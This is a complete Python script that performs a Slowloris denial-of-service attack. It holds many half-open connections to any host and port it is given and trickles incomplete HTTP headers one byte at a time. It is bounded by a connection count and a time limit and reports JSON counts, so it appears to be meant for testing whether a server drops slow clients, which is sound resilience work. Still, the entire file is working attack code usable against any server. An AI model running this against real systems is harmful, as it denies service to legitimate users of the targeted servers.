#!/usr/bin/env python3
"""Slowloris against a server: many half-open connections, each sending its request
headers one byte at a time, never finishing them.

usage: slowloris.py HOST PORT CONNECTIONS SECONDS [SOURCE_ADDRESS]

Prints one JSON line: how many connections were opened, how many the server closed
(refused at once or timed out) before SECONDS ran out, and how many were still open
at the end. Bounded: at most CONNECTIONS sockets, and it stops after SECONDS.
"""

import json
import socket
import sys
import time


def main():
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    source = sys.argv[5] if len(sys.argv) > 5 else None
    head = b"GET /v2/ HTTP/1.1\r\nHost: " + host.encode() + b"\r\nUser-Agent: slowloris\r\n"
    trickle = b"X-Slow: " + b"a" * 4096
    socks = []
    opened = 0
    for _ in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if source:
            s.bind((source, 0))
        s.settimeout(2)
        try:
            s.connect((host, port))
        except OSError:
            s.close()
            continue
        opened += 1
        s.setblocking(False)
        socks.append({"sock": s, "sent": 0, "closed": False})
    end = time.monotonic() + seconds
    step = 0
    while time.monotonic() < end:
        for c in socks:
            if c["closed"]:
                continue
            s = c["sock"]
            try:
                # Anything the server sends (a 408/431, an EOF) or a reset means it closed.
                data = s.recv(4096)
                if data == b"" or data:
                    c["closed"] = True
                    s.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                c["closed"] = True
                s.close()
                continue
            stream = head + trickle
            try:
                if c["sent"] < len(stream):
                    s.send(stream[c["sent"] : c["sent"] + 1])
                    c["sent"] += 1
            except BlockingIOError:
                pass
            except OSError:
                c["closed"] = True
                s.close()
        step += 1
        time.sleep(0.2)
    still_open = sum(1 for c in socks if not c["closed"])
    for c in socks:
        if not c["closed"]:
            c["sock"].close()
    print(json.dumps({"opened": opened, "closed_by_server": opened - still_open, "still_open": still_open}))


if __name__ == "__main__":
    main()
